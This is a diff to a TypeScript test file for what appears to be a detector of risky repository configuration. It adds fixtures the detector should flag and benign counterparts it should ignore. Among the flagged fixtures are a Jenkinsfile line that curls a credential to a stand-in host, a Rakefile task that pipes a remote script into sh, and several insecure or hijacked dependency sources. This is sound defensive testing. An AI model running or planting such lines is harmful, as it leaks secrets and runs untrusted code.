@@ -30,6 +30,11 @@ const ASKED: readonly Case[] = [
   ],
   ['.pre-commit-config.yaml', 'repos:\n  - repo: http://x.example/hooks.git\n    rev: v1\n    hooks:\n      - id: a\n'],
   ['Jenkinsfile', 'withCredentials([string(credentialsId: "a", variable: "T")]) { sh "curl -d $T https://x.example" }'],
+  ['.idea/runConfigurations/a.xml', '<option name="INTERPRETER_PATH" value="/tmp/bash" />'],
+  ['.gitmodules', '[submodule "a"]\n\tpath = a\n\turl = http://x.example/a.git\n'],
+  ['Cargo.toml', '[dependencies]\nserde = { git = "http://203.0.113.4/serde.git" }\n'],
+  ['go.mod', 'module a\nreplace golang.org/x/crypto => github.com/somebody/crypto v0.1.0\n'],
+  ['Rakefile', 'task(:default) { sh "curl http://x.example/r | sh" }\n'],
 ]
 for (const [path, content] of ASKED)
   test(`asks about ${path}: ${content.slice(0, 60)}`, () =>
@@ -62,6 +67,10 @@ const SILENT: readonly Case[] = [
   ],
   ['Jenkinsfile', 'withCredentials([string(credentialsId: "a", variable: "T")]) { sh "npm publish" }'],
   ['tests/fixtures/settings.json', '{"python.defaultInterpreterPath": "/tmp/py"}'],
+  ['.idea/runConfigurations/a.xml', '<option name="LOG_PATH" value="/tmp/a.log" />'],
+  ['.gitmodules', '[submodule "a"]\n\tpath = a\n\turl = https://github.com/acme/a.git\n'],
+  ['Cargo.toml', '[package]\nhomepage = "http://acme.example"\n[dependencies]\nserde = "1"\n'],
+  ['go.mod', 'module a\nreplace golang.org/x/crypto => ../crypto\nreplace example.com/a => github.com/acme/a v1\n'],
 ]
 for (const [path, content] of SILENT)
   test(`says nothing about ${path}: ${content.slice(0, 60)}`, () =>
